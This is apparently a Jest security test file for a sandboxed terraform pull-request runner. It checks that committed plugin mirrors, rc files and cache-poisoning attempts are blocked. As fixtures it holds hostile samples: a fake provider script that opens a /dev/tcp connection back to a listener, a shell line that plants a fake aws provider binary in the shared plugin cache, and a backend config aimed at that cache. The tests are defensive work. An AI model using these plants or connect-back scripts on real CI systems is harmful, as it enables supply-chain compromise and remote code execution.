import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import { jest } from "@jest/globals";
import type { ExecResult } from "../../src/sandbox/exec.js";
import { PROVIDER_CACHE_PATH } from "../../src/engines/provider-cache.js";
import { Sandbox, type SandboxRequest } from "../../src/sandbox/sandbox.js";
import { terraformPlan, type PlanOutcome, type TerraformJob } from "../../src/engines/terraform.js";
import { TerraformHomes } from "../../src/engines/terraform-home.js";
import { RepoMirrors } from "../../src/git/repo-mirror.js";
import { findBinary } from "../../src/settings/find-binary.js";
import { engineTest } from "../support/app-harness.js";
import { GitRepo } from "../support/git-repo.js";
import { RecordingListener } from "../support/listener.js";

jest.setTimeout(180_000);

/** The real sandbox, keeping each request so the test can run its own program with exactly terraform's mounts. */
class RecordingSandbox extends Sandbox {
  readonly requests: SandboxRequest[] = [];
  override run(request: SandboxRequest): Promise<ExecResult> {
    this.requests.push(request);
    return super.run(request);
  }
}

const HOST_IP = Object.values(os.networkInterfaces()).flat().find((i) => i && i.family === "IPv4" && !i.internal)?.address ?? "127.0.0.1";
const gitRoot = mkdtempSync(path.join(os.tmpdir(), "plangate-sec-git-"));
const repo = new GitRepo(gitRoot, "acme", "infra");
repo.commit({ "README.md": "infra" }); // every PR branch starts from main
const mirrors = new RepoMirrors(mkdtempSync(path.join(os.tmpdir(), "plangate-sec-mirrors-")), `file://${gitRoot}`);
const noToken = async () => "unused";
let branch = 0;

/** A folder of plangate's own, as main.ts makes its data dir: readable by the sandbox's user. */
function ownDir(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "plangate-sec-tf-"));
  chmodSync(dir, 0o755);
  return dir;
}

/** A fresh run folder (as the worker's runs/<id>), readable by the sandbox's user. */
function runRoot(): string {
  const root = mkdtempSync(path.join(os.tmpdir(), "plangate-sec-run-"));
  chmodSync(root, 0o755);
  mkdirSync(path.join(root, "out"));
  return root;
}

/** Commits files on a new PR branch (executables with their x bit, binaries as bytes) and checks the commit out as the worker does. */
async function checkoutPr(root: string, files: Record<string, string | Buffer>, executables: string[] = []): Promise<{ checkoutDir: string; scrubbed: unknown }> {
  const name = `pr-${++branch}`;
  repo.commit(Object.fromEntries(Object.entries(files).filter(([, c]) => typeof c === "string")) as Record<string, string>, name);
  for (const [file, content] of Object.entries(files)) {
    if (typeof content === "string") continue;
    mkdirSync(path.dirname(path.join(repo.work, file)), { recursive: true });
    writeFileSync(path.join(repo.work, file), content);
  }
  for (const file of executables) chmodSync(path.join(repo.work, file), 0o755);
  const sha = repo.commit({}, name);
  const checkoutDir = path.join(root, "checkout");
  const scrubbed = await mirrors.checkout({ owner: "acme", name: "infra" }, sha, checkoutDir, noToken);
  return { checkoutDir, scrubbed };
}

/** A zip archive holding one executable file (stored, unix mode 0755): terraform's packed provider layout. */
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const file = Buffer.from(name);
  const crc = zlib.crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(0x21, 12); // 1980-01-01
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(file.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE((3 << 8) | 20, 4); // made on unix: the external attributes carry the mode
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(0x21, 14);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(file.length, 28);
  central.writeUInt32LE((0o100755 << 16) >>> 0, 38);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + file.length, 12);
  end.writeUInt32LE(local.length + file.length + data.length, 16);
  return Buffer.concat([local, file, data, central, file, end]);
}

async function plan(sandbox: Sandbox, homes: TerraformHomes, root: string, checkoutDir: string, workspace = "default"): Promise<PlanOutcome> {
  const { home } = await homes.acquire();
  const job: TerraformJob = { sandbox, bin: findBinary("terraform") ?? "terraform", tool: "terraform", home, checkoutDir, projectDir: "stack", workspace, env: {}, timeoutMs: 90_000, outDir: path.join(root, "out") };
  return terraformPlan(job);
}

const EVIL_PATH = "registry.terraform.io/acme/evil/1.0.0/linux_amd64";
const EVIL_FILE = "terraform-provider-evil_v1.0.0";
const USES_EVIL = 'terraform {\n  required_providers {\n    evil = { source = "acme/evil", version = "1.0.0" }\n  }\n}\nprovider "evil" {}\nresource "terraform_data" "x" {}\n';

/** A "provider" that proves it ran: a marker in the checkout and a connection to the test's listener. */
const evilProvider = (marker: string, port: number) => `#!/bin/bash\necho ran > ${marker}\nexec 3<>/dev/tcp/${HOST_IP}/${port} && echo "provider ran" >&3\nexit 1\n`;

describe("nothing a pull request commits runs as terraform's tooling", () => {
  const layouts: [string, (script: string) => Record<string, string | Buffer>][] = [
    [
      // terraform finds the mirror from the sandbox's working directory (the checkout) and opens it relative to -chdir.
      "terraform.d/plugins (an implicit local mirror of the working directory)",
      (script) => Object.fromEntries(["", "stack/"].map((dir) => [`${dir}terraform.d/plugins/registry.terraform.io/acme/evil/terraform-provider-evil_1.0.0_linux_amd64.zip`, zipOf(EVIL_FILE, script)])),
    ],
    [".home/.terraform.d/plugins (an implicit local mirror in HOME, which is in the checkout)", (script) => ({ [`.home/.terraform.d/plugins/${EVIL_PATH}/${EVIL_FILE}`]: script })],
  ];

  for (const [where, layout] of layouts) {
    engineTest(`a provider committed under ${where} never runs: the plan fails, no connection, no marker`, async () => {
      const root = runRoot();
      const marker = path.join(root, "checkout", "EVIL-RAN");
      const listen = await RecordingListener.start(HOST_IP); // on this machine's non-loopback address
      try {
        const planted = layout(evilProvider(marker, listen.port));
        const { checkoutDir, scrubbed } = await checkoutPr(root, { "stack/main.tf": USES_EVIL, ...planted }, Object.keys(planted).filter((f) => f.endsWith(EVIL_FILE)));
        const outcome = await plan(new Sandbox("bwrap"), new TerraformHomes(path.join(root, "tf")), root, checkoutDir);

        expect(outcome).toMatchObject({ ok: false, stage: "init" });
        expect(!outcome.ok && outcome.output).toContain("acme/evil");
        expect(await listen.settled()).toEqual([]);
        expect(existsSync(marker)).toBe(false);
        expect(scrubbed).toEqual(Object.keys(planted).map((f) => f.replace(/terraform\.d\/.*/, "terraform.d")).sort());
      } finally {
        listen.close();
      }
    });
  }

  engineTest("committed .terraformrc, terraform.rc, .terraform/, terraform.d/ and .terraform.d/ are scrubbed anywhere; links are removed, never followed", async () => {
    const root = runRoot();
    const outside = mkdtempSync(path.join(os.tmpdir(), "plangate-sec-outside-"));
    writeFileSync(path.join(outside, "keep"), "kept");
    const name = `pr-${++branch}`;
    repo.commit(
      {
        ".terraformrc": 'provider_installation {\n  filesystem_mirror { path = "." }\n}\n',
        "terraform.rc": "disable_checkpoint = false\n",
        "a/b/main.tf": 'resource "terraform_data" "x" {}\n',
        "a/b/.terraform/terraform.tfstate": "{}",
        "mods/terraform.d/plugins/x": "x",
        "x/.terraform.d/evil.tfrc": 'plugin_cache_dir = "/tmp"\n',
        "c/.terraform": { symlink: outside },
      },
      name,
    );
    const sha = repo.commit({}, name);
    const checkoutDir = path.join(root, "checkout");
    const scrubbed = await mirrors.checkout({ owner: "acme", name: "infra" }, sha, checkoutDir, noToken);

    expect(scrubbed).toEqual([".terraformrc", "a/b/.terraform", "c/.terraform", "mods/terraform.d", "terraform.rc", "x/.terraform.d"]);
    for (const gone of [".terraformrc", "terraform.rc", "a/b/.terraform", "mods/terraform.d", "x/.terraform.d", "c/.terraform"]) expect(existsSync(path.join(checkoutDir, gone))).toBe(false);
    expect(readFileSync(path.join(checkoutDir, "a/b/main.tf"), "utf8")).toContain("terraform_data");
    expect(readFileSync(path.join(outside, "keep"), "utf8")).toBe("kept");
  });
});

/** A sandbox request that runs terraform's `stage` (a job's steps run in one sandbox entry, under a shell script naming each). */
const runs = (stage: string) => (r: SandboxRequest) => r.command.join(" ").includes(`step '${stage}' `);

describe("the provider cache", () => {
  const LOCKED = { "stack/main.tf": 'resource "terraform_data" "x" { input = "a" }\n', "stack/.terraform.lock.hcl": "# providers: none but the built-in one\n" };
  const PLANT = 'd="$TF_PLUGIN_CACHE_DIR/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64"; mkdir -p "$d" && echo "#!/bin/sh" > "$d/terraform-provider-aws_v5.100.0_x5" && touch "$TF_PLUGIN_CACHE_DIR/planted" && echo PLANTED';

  engineTest("code running in a plan (a provider) cannot write into the cache a later run of another PR uses", async () => {
    const homes = new TerraformHomes(ownDir());
    const first = runRoot();
    const sandbox = new RecordingSandbox("bwrap");
    const { checkoutDir } = await checkoutPr(first, LOCKED);
    expect((await plan(sandbox, homes, first, checkoutDir)).ok).toBe(true);

    // The PR's code, with exactly the mounts and environment terraform's plan step had:
    const planStep = sandbox.requests.find(runs("plan"))!;
    const attempt = await new Sandbox("bwrap").run({ ...planStep, command: ["/bin/sh", "-c", PLANT], stdoutFile: undefined });
    expect(attempt.exitCode).not.toBe(0);
    expect(attempt.output).toMatch(/Read-only file system/);
    expect(attempt.output).not.toContain("PLANTED");

    // Nor into HOME (~/.terraform.d/*.tfrc and ~/.gitconfig would configure the next command): empty and read-only.
    const home = await new Sandbox("bwrap").run({ ...planStep, command: ["/bin/sh", "-c", 'ls -A "$HOME"; touch "$HOME/.gitconfig" && echo WROTE-HOME'], stdoutFile: undefined });
    expect(home.output).toMatch(/^touch: cannot touch '.*\/\.gitconfig': Read-only file system\n$/);

    // The published cache is root's and read-only on the host as well.
    const cache = planStep.binds?.find((b) => b.target === planStep.env.TF_PLUGIN_CACHE_DIR);
    expect(cache).toMatchObject({ writable: false });
    expect(statSync(cache!.source).uid).toBe(0);
    expect(statSync(cache!.source).mode & 0o222).toBe(0);

    // Another PR with the same lock file gets the same, untouched cache.
    const second = runRoot();
    const later = new RecordingSandbox("bwrap");
    const other = await checkoutPr(second, { ...LOCKED, "stack/main.tf": 'resource "terraform_data" "y" {}\n' });
    expect((await plan(later, homes, second, other.checkoutDir)).ok).toBe(true);
    const laterPlan = later.requests.find(runs("plan"))!;
    expect(laterPlan.binds?.find((b) => b.target === laterPlan.env.TF_PLUGIN_CACHE_DIR)?.source).toBe(cache!.source);
    const listing = await new Sandbox("bwrap").run({ ...laterPlan, command: ["/bin/sh", "-c", 'find "$TF_PLUGIN_CACHE_DIR" -mindepth 1'], stdoutFile: undefined });
    expect(listing.output.trim()).toBe("");
  });

  engineTest("a PR's init cannot plant anything in the shared cache while it is filled: a local backend's workspace_dir pointing into it writes nothing a later PR sees", async () => {
    const tf = ownDir();
    const homes = new TerraformHomes(tf);
    const attacker = runRoot();
    // `workspace select -or-create` (the project's workspace is the PR's to name) makes workspace_dir/<name>/ during init.
    const planting = `terraform {\n  backend "local" {\n    workspace_dir = "${PROVIDER_CACHE_PATH}"\n  }\n}\nresource "terraform_data" "x" {}\n`;
    const evil = await checkoutPr(attacker, { ...LOCKED, "stack/main.tf": planting });
    const attackerSandbox = new RecordingSandbox("bwrap");
    await plan(attackerSandbox, homes, attacker, evil.checkoutDir, "planted");
    // No command that sees the PR's checkout ever had a shared cache writable.
    const sharedWritable = attackerSandbox.requests.filter((r) => r.binds?.some((b) => b.target === PROVIDER_CACHE_PATH && b.writable && b.source.startsWith(tf)));
    expect(sharedWritable.filter((r) => r.workDir.startsWith(attacker))).toEqual([]);

    // A later PR with the same lock file mounts the shared cache: nothing of the attacker's is in it.
    const victim = runRoot();
    const later = new RecordingSandbox("bwrap");
    const other = await checkoutPr(victim, { ...LOCKED, "stack/main.tf": 'resource "terraform_data" "y" {}\n' });
    expect((await plan(later, homes, victim, other.checkoutDir)).ok).toBe(true);
    const laterPlan = later.requests.find(runs("plan"))!;
    const cache = laterPlan.binds?.find((b) => b.target === laterPlan.env.TF_PLUGIN_CACHE_DIR);
    expect(cache).toMatchObject({ writable: false });
    expect(cache!.source.startsWith(path.join(tf, "provider-cache"))).toBe(true);
    const listing = await new Sandbox("bwrap").run({ ...laterPlan, command: ["/bin/sh", "-c", 'find "$TF_PLUGIN_CACHE_DIR" -mindepth 1'], stdoutFile: undefined });
    expect(listing.output.trim()).toBe("");
    expect(readdirSync(path.join(tf, "provider-cache")).flatMap((key) => readdirSync(path.join(tf, "provider-cache", key)))).toEqual([]);
  });

  engineTest("a real provider from the operator's mirror: installed once into a published cache, reused read-only by the next PR", async () => {
    const homes = new TerraformHomes(ownDir(), { providerMirror: { kind: "filesystem", path: "/opt/tf-plugins" } });
    const aws = 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", version = "5.100.0" }\n  }\n}\nprovider "aws" {\n  region = "us-east-1"\n  access_key = "x"\n  secret_key = "y"\n  skip_credentials_validation = true\n  skip_requesting_account_id = true\n  skip_metadata_api_check = true\n}\nresource "terraform_data" "x" {}\n';
    const noLock = runRoot();
    const bare = await checkoutPr(noLock, { "stack/main.tf": aws });
    const unlocked = await plan(new Sandbox("bwrap"), homes, noLock, bare.checkoutDir);
    expect(unlocked.ok).toBe(true);
    const lock = readFileSync(path.join(bare.checkoutDir, "stack/.terraform.lock.hcl"), "utf8");

    const outcomes: PlanOutcome[] = [];
    for (const input of ["a", "b"]) {
      const root = runRoot();
      const { checkoutDir } = await checkoutPr(root, { "stack/main.tf": aws.replace('"x" {}', `"x" { input = "${input}" }`), "stack/.terraform.lock.hcl": lock });
      outcomes.push(await plan(new Sandbox("bwrap"), homes, root, checkoutDir));
    }
    expect(outcomes.map((o) => o.ok)).toEqual([true, true]);
    expect(outcomes[1]!.ok && outcomes[1]!.output).toContain("Using hashicorp/aws v5.100.0 from the shared cache directory");
  });

  engineTest("a shared cache that lacks a provider the configuration needs (the lock file is behind) falls back to a private cache", async () => {
    const homes = new TerraformHomes(ownDir(), { providerMirror: { kind: "filesystem", path: "/opt/tf-plugins" } });
    const lock = "# This file is maintained automatically by \"terraform init\".\n"; // locks no provider yet
    const withoutAws = runRoot();
    const first = await checkoutPr(withoutAws, { "stack/main.tf": 'resource "terraform_data" "x" {}\n', "stack/.terraform.lock.hcl": lock });
    expect((await plan(new Sandbox("bwrap"), homes, withoutAws, first.checkoutDir)).ok).toBe(true); // publishes a cache without aws

    const withAws = runRoot();
    const sandbox = new RecordingSandbox("bwrap");
    const second = await checkoutPr(withAws, { "stack/main.tf": 'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n}\n', "stack/.terraform.lock.hcl": lock });
    const outcome = await plan(sandbox, homes, withAws, second.checkoutDir);
    expect(outcome).toMatchObject({ ok: true });
    const inits = sandbox.requests.filter(runs("init")).map((r) => r.binds?.find((b) => b.target === r.env.TF_PLUGIN_CACHE_DIR));
    expect(inits.map((b) => b?.writable)).toEqual([false, true]);
    expect(inits[1]!.source.startsWith(path.join(withAws, "out"))).toBe(true);
  });
});
